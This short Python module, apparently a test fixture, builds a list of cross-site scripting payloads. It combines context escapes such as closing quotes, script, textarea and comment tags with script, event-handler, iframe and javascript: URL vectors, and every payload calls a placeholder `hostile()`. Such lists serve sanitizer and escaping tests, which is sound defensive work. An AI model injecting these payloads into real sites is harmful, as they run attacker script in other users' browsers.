"""Texts of a stranger who would have the reader's browser run them. All call `hostile()`."""

CALL = "hostile()"
# What could end the place that a text is put in.
ESCAPES = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title>",
    "</script>",
    "-->",
    "]]>",
    "</dd></dl>",
    "</option></select>",
    "{% endblock %}",
    "\\u003c/script\\u003e",
)
VECTORS = (
    f"<script>{CALL}</script>",
    f"<img src=x onerror={CALL}>",
    f"<svg/onload={CALL}>",
    f"<svg><animate onbegin={CALL} attributeName=x></svg>",
    f"<details open ontoggle={CALL}>",
    f"<input autofocus onfocus={CALL}>",
    f"<select autofocus onfocus={CALL}></select>",
    f"<video><source onerror={CALL}></video>",
    f"<body onload={CALL}>",
    f"<marquee onstart={CALL}>",
    f'<iframe srcdoc="<script>parent.{CALL}</script>"></iframe>',
    f'<iframe src="javascript:parent.{CALL}"></iframe>',
    f'<object data="javascript:{CALL}"></object>',
    f'<a href="javascript:{CALL}">x</a>',
    f'<form><button formaction="javascript:{CALL}">x</button></form>',
    f'<meta http-equiv="refresh" content="0;url=javascript:{CALL}">',
    f"javascript:{CALL}",
    f'x" onmouseover="{CALL}',
    f"x' autofocus onfocus='{CALL}",
)
PAYLOADS = tuple(escape + vector for escape in ESCAPES for vector in VECTORS)
